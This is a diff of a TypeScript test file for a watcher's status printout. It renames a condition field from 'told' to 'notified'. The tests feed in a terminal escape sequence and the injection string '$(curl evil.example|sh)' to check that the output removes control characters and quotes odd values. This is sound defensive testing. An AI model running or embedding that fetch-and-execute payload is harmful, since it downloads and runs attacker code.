@@ -76,7 +76,7 @@ test('who approved or staged is told apart', () => {
 });
 
 test('what stopped the watcher, and what lasts, is printed with no control character left in it', () => {
-  const condition = { code: 'list-full', severity: 'critical', message: 'Full.\u001B[2J', since: AT, told: AT };
+  const condition = { code: 'list-full', severity: 'critical', message: 'Full.\u001B[2J', since: AT, notified: AT };
   const text = printed({ stoppedSince: AT, conditions: [condition] });
   expect(text).toContain('Nothing is written since 2026-01-02 03:04: someone else keeps undoing it.');
   expect(text).toContain('critical since 2026-01-02 03:04, last told 2026-01-02 03:04 [list-full]\n      "Full.?[2J"');
@@ -89,7 +89,7 @@ test('an account without providers has no history', () => {
 test('what is no thumbprint, and what somebody wrote into the table, stands in quotation marks', () => {
   const odd = '$(curl evil.example|sh)". All is well. "';
   const seen = { by: 'found' as const, firstSeen: AT, lastLive: null, supersededSince: null, sha256: null };
-  const condition = { code: 'weak-key', severity: 'warning', message: odd, since: AT, told: null };
+  const condition = { code: 'weak-key', severity: 'warning', message: odd, since: AT, notified: null };
   const text = printed({
     thumbprints: [{ ...seen, thumbprint: odd }],
     conditions: [condition],
